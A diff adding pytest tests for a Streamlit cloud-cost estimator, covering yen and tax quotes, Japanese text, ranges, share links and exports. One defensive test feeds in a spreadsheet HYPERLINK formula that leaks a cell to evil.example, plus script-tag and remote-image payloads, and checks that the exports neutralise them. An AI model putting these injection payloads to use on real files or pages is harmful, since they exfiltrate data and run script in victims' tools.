@@ -1,0 +1,241 @@
+"""The Design page as a consultant uses it: yen and tax, Japanese, ranges, exports and the share link."""
+
+from __future__ import annotations
+
+import io
+from datetime import date
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+from streamlit.testing.v1 import AppTest
+
+from i18n.format import format_money
+from models.costs.money import QuoteSettings, make_quote
+from models.design.text import load_design_data
+from service import estimate_data, scenario_estimates
+from storage.share import decode_design, encode_design
+from templates import template_keys, template_text
+from webapp.views.downloads import export_files
+
+APP = str(Path(__file__).resolve().parents[2] / "app.py")
+PHOTO = load_design_data(template_text("photo_thumbnails"))
+
+
+def start(query: dict | None = None) -> AppTest:
+    at = AppTest.from_file(APP, default_timeout=60)
+    for key, value in (query or {}).items():
+        at.query_params[key] = value
+    at.run()
+    assert not at.exception
+    return at
+
+
+def metrics(at: AppTest) -> dict[str, str]:
+    return {m.label: m.value for m in at.metric}
+
+
+def quote_of(data: dict, settings: QuoteSettings):
+    return make_quote(estimate_data(data).line_items, settings)
+
+
+def test_yen_with_consumption_tax_in_japanese():
+    at = start()
+    # the sidebar (app.py) only runs on AppTest's first run: set its widgets, then switch template
+    at.radio(key="lang").set_value("ja")
+    at.radio(key="currency").set_value("JPY")
+    at.number_input(key="tax_pct").set_value(10)
+    at.selectbox(key="template").set_value("photo_thumbnails").run()
+    assert not at.exception and not at.error
+    quote = quote_of(PHOTO, QuoteSettings("JPY", Decimal(150), Decimal(10)))
+    assert metrics(at) == {"月額合計（円、税抜）": f"{quote.subtotal:,}円", "税込（10 %）": f"{quote.total:,}円"}
+    table = at.dataframe[0].value
+    assert list(table["金額（円、端数処理後）"]) == [float(line.amount) for line in quote.lines]
+    assert "費用（USD）" in table.columns  # the engine's exact USD stays visible
+    notes = " ".join(c.value for c in at.caption)
+    assert "1 円単位で四捨五入" in notes and "1 USD = 150 円" in notes and "年" in notes
+
+
+def test_the_exchange_rate_changes_the_yen_total():
+    at = start()
+    at.radio(key="currency").set_value("JPY").run()
+    at.session_state["quote"] = {"currency": "JPY", "jpy_per_usd": 100.0, "tax_pct": 0.0}
+    at.run()
+    first = load_design_data(template_text(template_keys()[0]))
+    assert at.metric[0].value == format_money(quote_of(first, QuoteSettings("JPY", Decimal(100))).total, "JPY", "en")
+    assert at.metric[0].value.startswith("¥")
+
+
+def test_a_requests_range_shows_three_cases():
+    at = start()
+    at.selectbox(key="template").set_value("photo_thumbnails").run()
+    toggle = next(c for c in at.checkbox if c.key.endswith(".requests.ranged"))
+    toggle.check().run()
+    assert not at.exception and not at.error
+    assert at.session_state["design"]["workload"]["requests_per_month"] == {
+        "low": 1_500_000.0, "expected": 3_000_000, "high": 6_000_000.0}
+    high = next(n for n in at.number_input if n.key.endswith(".requests.high"))
+    high.set_value(12_000_000).run()
+    assert at.session_state["design"]["workload"]["requests_per_month"]["high"] == 12_000_000
+    estimates = scenario_estimates(at.session_state["design"])
+    totals = {case: format_money(make_quote(e.line_items, QuoteSettings()).total, "USD", "en")
+              for case, e in estimates.items()}
+    [info] = [i.value for i in at.info if "three cases" in i.value]
+    assert f"low case {totals['low']}" in info and f"high case {totals['high']}" in info
+    assert at.metric[0].value == totals["expected"]
+    # the expected value stays editable and keeps the range
+    expected = next(n for n in at.number_input if n.key.endswith(".requests"))
+    expected.set_value(4_000_000).run()
+    assert at.session_state["design"]["workload"]["requests_per_month"]["expected"] == 4_000_000
+    toggle = next(c for c in at.checkbox if c.key.endswith(".requests.ranged"))
+    toggle.uncheck().run()
+    assert at.session_state["design"]["workload"]["requests_per_month"] == 4_000_000
+
+
+def test_a_ranged_component_field_from_yaml_gets_low_and_high_inputs():
+    data = load_design_data(template_text("photo_thumbnails"))
+    data["components"][1]["memory_mb"] = {"low": 256, "expected": 512, "high": 1024}
+    at = start({"d": encode_design(data)})
+    keys = {n.key for n in at.number_input}
+    assert {k for k in keys if k.endswith(".1.memory_mb.low") or k.endswith(".1.memory_mb.high")}
+    low = next(n for n in at.number_input if n.key.endswith(".1.memory_mb.low"))
+    low.set_value(1024).run()  # above expected: expected follows
+    assert at.session_state["design"]["components"][1]["memory_mb"] == {"low": 1024, "expected": 1024, "high": 1024}
+    assert not at.exception
+
+
+def test_a_share_link_reopens_the_same_design_in_a_new_session():
+    at = start()
+    at.selectbox(key="template").set_value("photo_thumbnails").run()
+    key = next(n.key for n in at.number_input if n.key.endswith(".memory_mb"))
+    at.number_input(key=key).set_value(2048).run()
+    edited = at.session_state["design"]
+    [link] = [c.value for c in at.code if "?d=" in c.value]
+    token = link.split("?d=", 1)[1].split("&", 1)[0]
+    assert decode_design(token) == edited
+    other = start({"d": token, "lang": "ja", "cur": "JPY", "rate": "150", "tax": "10"})
+    assert other.session_state["design"] == edited
+    assert other.session_state["lang"] == "ja"
+    assert other.session_state["quote"] == {"currency": "JPY", "jpy_per_usd": 150.0, "tax_pct": 10.0}
+    quote = quote_of(edited, QuoteSettings("JPY", Decimal(150), Decimal(10)))
+    assert metrics(other)["税込（10 %）"] == f"{quote.total:,}円"
+    assert any("リンクの設計を開きました" in s.value for s in other.success)
+
+
+def test_the_address_bar_carries_the_design_from_the_first_run():
+    at = start()
+    assert decode_design(at.query_params["d"]) == at.session_state["design"]
+
+
+@pytest.mark.parametrize("token", ["garbage", "1.AAAA", "1." + encode_design(PHOTO)[2:40]])
+def test_a_broken_link_is_a_message_and_the_first_template(token):
+    at = start({"d": token})
+    assert not at.exception
+    assert any("could not be opened" in e.value for e in at.error)
+    first = load_design_data(template_text(template_keys()[0]))
+    assert at.session_state["design"] == first
+
+
+def test_an_invalid_design_in_a_link_lists_its_problems():
+    bad = {"name": "x", "components": [{"id": "a", "type": "lambda", "memory_mb": 99999}],
+           "workload": {"requests_per_month": 1}}
+    at = start({"d": encode_design(bad)})
+    # messages escape markdown (memory\_mb renders as memory_mb): compare the text a reader sees
+    assert any("memory_mb: 99999 is out of range" in e.value.replace("\\", "") for e in at.error)
+
+
+def test_every_download_is_offered():
+    at = start()
+    keys = {b.key for b in at.get("download_button")}
+    assert keys == {"download_xlsx", "download_html", "download_csv", "download_design", "download_design_json",
+                    "download_json"}
+
+
+def test_the_files_behind_the_buttons():
+    settings = QuoteSettings("JPY", Decimal(150), Decimal(10))
+    files = {f.key: f for f in export_files(PHOTO, settings, "ja", date(2026, 11, 28))}
+    book = load_workbook(io.BytesIO(files["download_xlsx"].make()))
+    assert book.sheetnames == ["概要", "明細", "前提条件", "上限チェック"]
+    html = files["download_html"].make().decode("utf-8")
+    assert "Photo upload with thumbnails (S3 events)" in html and "@media print" in html
+    assert load_design_data(files["download_design"].make().decode()) == PHOTO
+    assert load_design_data(files["download_design_json"].make().decode()) == PHOTO
+    assert files["download_csv"].make().startswith(b"\xef\xbb\xbf")
+    assert files["download_xlsx"].file_name == "Photo_upload_with_thumbnails__S3_events__quote.xlsx"
+    assert b'"total_usd"' in files["download_json"].make()
+
+
+def test_the_diagram_shows_every_component():
+    at = start()
+    at.selectbox(key="template").set_value("photo_thumbnails").run()
+    [chart] = at.get("graphviz_chart")
+    spec = chart.proto.spec
+    for component in PHOTO["components"]:
+        assert f'"c:{component["id"]}"' in spec
+    assert '"c:photos" -> "c:thumbnailer"' in spec
+
+
+def test_every_label_and_export_word_is_in_english_and_japanese():
+    from i18n.catalog import FIELD_LABELS, TEXT
+    from render.quote.words import WORDS
+
+    for table in (TEXT, FIELD_LABELS, WORDS):
+        for key, entry in table.items():
+            assert entry.get("en") and entry.get("ja"), key
+
+
+def test_every_text_key_the_new_pages_use_exists():
+    import re
+
+    from i18n.catalog import FIELD_LABELS, TEXT
+
+    root = Path(APP).parent
+    sources = ["webapp/pages/design.py", "webapp/pages/compare.py", "webapp/pages/saved.py", "webapp/state.py", "webapp/views/compare.py"]
+    used = set()
+    for name in sources:
+        used |= set(re.findall(r'\btf?\("([a-z_0-9]+)"', (root / name).read_text(encoding="utf-8")))
+    missing = sorted(k for k in used if k not in TEXT and k not in FIELD_LABELS)
+    assert not missing
+
+
+@pytest.mark.parametrize("page", ["webapp/pages/design.py", "webapp/pages/compare.py", "webapp/pages/saved.py"])
+def test_every_input_has_help_text(page):
+    at = start()
+    at.selectbox(key="template").set_value("static_site_cdn").run()
+    at.switch_page(page).run()
+    inputs = [w for kind in ("number_input", "selectbox", "checkbox", "text_input", "radio", "multiselect", "text_area")
+              for w in getattr(at, kind)]
+    assert inputs and all(w.help for w in inputs), [w.label for w in inputs if not w.help]
+
+
+def test_the_sidebar_quote_inputs_have_help_with_their_default():
+    at = start()
+    at.radio(key="currency").set_value("JPY").run()
+    # the first run of a session renders app.py's sidebar; this one is page-only, so start again in JPY
+    at = start({"cur": "JPY", "rate": "150"})
+    helps = {w.key: w.help for w in [*at.sidebar.radio, *at.sidebar.number_input] if w.key}
+    assert "Default USD" in helps["currency"] and "Default 150" in helps["fx_rate"] and "Default 0" in helps["tax_pct"]
+
+
+def test_the_downloads_of_a_hostile_design_are_safe_to_open():
+    import csv
+
+    from render.quote.cells import starts_like_formula
+
+    hostile = load_design_data(template_text("save_app_data"))
+    hostile["name"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    hostile["description"] = "<script>alert(1)</script> ![x](https://evil.example/p.png) @SUM(1)"
+    hostile["components"][2]["gsis"] = [{"name": "-2+3", "reads": 1}]
+    at = start({"d": encode_design(hostile)})
+    assert at.session_state["design"] == hostile
+    files = {f.key: f for f in export_files(at.session_state["design"], QuoteSettings(), "en", date(2026, 11, 28))}
+    assert set(files["download_xlsx"].file_name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.")
+    book = load_workbook(io.BytesIO(files["download_xlsx"].make()))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert hostile["name"] in {c.value for c in cells}  # the user's text, as text
+    rows = list(csv.reader(io.StringIO(files["download_csv"].make().decode("utf-8-sig"))))
+    assert not [v for row in rows for v in row if starts_like_formula(v)]
+    html = files["download_html"].make().decode("utf-8")
+    assert "<script>" not in html and "evil.example/p.png\"" not in html and "<img" not in html
